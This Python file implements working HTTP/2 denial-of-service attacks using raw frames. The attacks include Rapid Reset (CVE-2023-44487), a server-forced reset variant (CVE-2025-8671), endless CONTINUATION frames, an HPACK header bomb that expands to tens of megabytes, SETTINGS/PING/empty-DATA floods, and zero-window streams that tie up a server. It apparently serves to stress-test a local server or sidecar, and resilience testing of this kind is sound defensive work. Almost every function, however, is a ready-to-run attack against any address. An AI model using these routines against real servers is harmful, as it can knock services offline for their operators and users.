"""Attacks by frames of HTTP/2, written by hand with hyperframe and hpack, and with h2 where the protocol is kept.

Each function attacks an address for so many seconds and says what it saw.
"""

import socket
import struct
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from victim import CALL

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY = 7
HEAD = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/v1/tools")]
POST = [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"), (":path", "/v1/calls"),
        ("content-type", "application/json")]


class Raw:
    """One connection on which anything can be sent."""

    def __init__(self, address):
        # A listener that is busy takes a connection at the second attempt of the kernel, or at a later one.
        self.socket = socket.create_connection(address, timeout=60)
        self.encoder = hpack.Encoder()
        self.stream = -1
        self.seen = b""
        self.n_late = 0
        self.socket.sendall(PREFACE + SettingsFrame(0).serialize())
        self.socket.settimeout(1)

    def head(self, headers, flags=("END_HEADERS", "END_STREAM")):
        """The frame of a request on a stream of its own."""
        self.stream += 2
        return HeadersFrame(self.stream, data=self.encoder.encode(headers), flags=list(flags)).serialize()

    def send(self, data):
        """Whether it could be sent; what is not taken in time is lost, which ends the connection's sense but not itself."""
        try:
            self.socket.sendall(data)
            return True
        except TimeoutError:
            self.n_late += 1
            return True
        except OSError:
            return False

    def is_told_to_go(self):
        """Whether the other side has said GOAWAY or has closed."""
        self.socket.settimeout(0)
        try:
            while True:
                piece = self.socket.recv(1 << 16)
                if not piece:
                    return True
                self.seen += piece
        except BlockingIOError:
            pass
        except OSError:
            return True
        finally:
            self.socket.settimeout(1)
        return GOAWAY in self.frames()

    def frames(self):
        """The types of the frames that came."""
        found, rest = [], self.seen
        while len(rest) >= 9:
            length = struct.unpack(">I", b"\0" + rest[:3])[0]
            if len(rest) < 9 + length:
                break
            found.append(rest[3])
            rest = rest[9 + length:]
        self.seen = rest
        return found

    def close(self):
        self.socket.close()


def again(address, seconds, connections, burst):
    """Sends bursts on connections, each of which is opened again when it is told to go; how many were, of how many bursts."""
    until = time.monotonic() + seconds
    opened = [Raw(address) for _ in range(connections)]
    n_bursts = n_ended = 0
    while time.monotonic() < until:
        for at, raw in enumerate(opened):
            was_taken = raw.send(burst(raw))
            n_bursts += 1
            if not was_taken or raw.is_told_to_go() or raw.stream > 1 << 30:
                n_ended += 1
                raw.close()
                opened[at] = Raw(address)
    for raw in opened:
        raw.close()
    return n_bursts, n_ended


def rapid_reset(address, seconds, scale):
    """CVE-2023-44487: requests that are reset at once."""
    def burst(raw):
        pairs = (raw.head(POST, ["END_HEADERS"]) + RstStreamFrame(raw.stream, error_code=8).serialize() for _ in range(100))
        return b"".join(pairs)
    n_bursts, n_ended = again(address, seconds, scale, burst)
    return f"{n_bursts * 100} requests reset, {n_ended} connections ended"


def made_to_reset(address, seconds, scale):
    """CVE-2025-8671: requests that the server must reset itself."""
    def burst(raw):
        pairs = (raw.head(POST, ["END_HEADERS"]) + WindowUpdateFrame(raw.stream, window_increment=1).serialize()[:-4] + bytes(4)
                 for _ in range(100))
        return b"".join(pairs)
    n_bursts, n_ended = again(address, seconds, scale, burst)
    return f"{n_bursts * 100} requests made to be reset, {n_ended} connections ended"


def continuations(address, seconds, scale):
    """A head that never ends, in large pieces and in empty ones."""
    said = []
    for name, piece in (("large", b"\x40\x01a\x7f\x81\x3e" + b"x" * 16370), ("empty", b"")):
        def burst(raw, piece=piece):
            begin = raw.head(HEAD, []) if raw.stream < 0 else b""
            frames = ContinuationFrame(raw.stream, data=piece[:16384]).serialize()
            return begin + frames * 64
        n_bursts, n_ended = again(address, seconds / 2, scale, burst)
        said.append(f"{n_bursts * 64} {name} frames, {n_ended} connections ended")
    return "; ".join(said)


def header_bomb(address, seconds, scale):
    """A header of 3 KiB, named again and again by one byte each."""
    value = "x" * 3000
    def burst(raw):
        first = raw.head([*HEAD, ("bomb", value)])
        raw.stream += 2
        block = hpack.Encoder().encode(HEAD) + b"\xbe" * 16000
        return first + HeadersFrame(raw.stream, data=block[:16384], flags=["END_HEADERS", "END_STREAM"]).serialize()
    n_bursts, n_ended = again(address, seconds, scale, burst)
    return f"{n_bursts} bombs of 46 MiB, {n_ended} connections ended"


def control_floods(address, seconds, scale):
    """SETTINGS, PING and empty DATA, without reading what is answered."""
    said = []
    kinds = {
        "SETTINGS": lambda raw: SettingsFrame(0, settings={4: 65535}).serialize() * 500,
        "PING": lambda raw: PingFrame(0, opaque_data=b"12345678").serialize() * 500,
        "empty DATA": lambda raw: (raw.head(POST, ["END_HEADERS"]) if raw.stream < 0 else b"")
        + DataFrame(1).serialize() * 500,
    }
    for name, burst in kinds.items():
        n_bursts, n_ended = flood(address, seconds / len(kinds), scale, burst)
        said.append(f"{n_bursts * 500} {name}, {n_ended} ended")
    return "; ".join(said)


def flood(address, seconds, connections, burst):
    """Sends bursts and reads nothing; how many were taken, and how many connections were ended."""
    until = time.monotonic() + seconds
    opened = [Raw(address) for _ in range(connections)]
    n_bursts = n_ended = 0
    while time.monotonic() < until:
        for at, raw in enumerate(opened):
            raw.socket.settimeout(0.05)
            if raw.send(burst(raw)):
                n_bursts += 1
                continue
            n_ended += 1
            raw.close()
            opened[at] = Raw(address)
    n_late = sum(raw.n_late for raw in opened)
    for raw in opened:
        raw.close()
    return n_bursts - n_late, n_ended


def zero_windows(address, seconds, scale):
    """Calls whose events are never taken: the window stays shut, pings are answered."""
    opened = [Patient(address) for _ in range(scale)]
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for patient in opened:
            patient.wait()
        time.sleep(0.1)
    n_streams = sum(patient.n_streams for patient in opened)
    n_ended = sum(patient.is_ended for patient in opened)
    for patient in opened:
        patient.socket.close()
    return f"{n_streams} streams on {scale} connections, {n_ended} ended by the sidecar"


class Patient:
    """A connection of a hundred requests that takes no answer."""

    def __init__(self, address):
        self.socket = socket.create_connection(address, timeout=60)
        self.connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.connection.initiate_connection()
        self.connection.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        self.is_ended = False
        self.n_streams = 0
        for number in range(100):
            stream = 1 + 2 * number
            is_post = number % 4 != 3
            head = [*POST, ("accept", "text/event-stream")] if is_post else HEAD
            self.connection.send_headers(stream, head, end_stream=not is_post)
            if is_post:
                self.connection.send_data(stream, CALL, end_stream=True)
            self.n_streams += 1
        self.socket.sendall(self.connection.data_to_send())
        self.socket.settimeout(0)

    def wait(self):
        """Keeps the connection alive and takes no data."""
        if self.is_ended:
            return
        try:
            while piece := self.socket.recv(1 << 16):
                events = self.connection.receive_data(piece)
                self.is_ended |= any(isinstance(event, h2.events.ConnectionTerminated) for event in events)
            self.is_ended = True
        except BlockingIOError:
            self.send()
        except (OSError, h2.exceptions.ProtocolError):
            self.is_ended = True

    def send(self):
        """Sends what is due; the other side may have closed meanwhile."""
        try:
            self.socket.sendall(self.connection.data_to_send())
        except OSError:
            self.is_ended = True
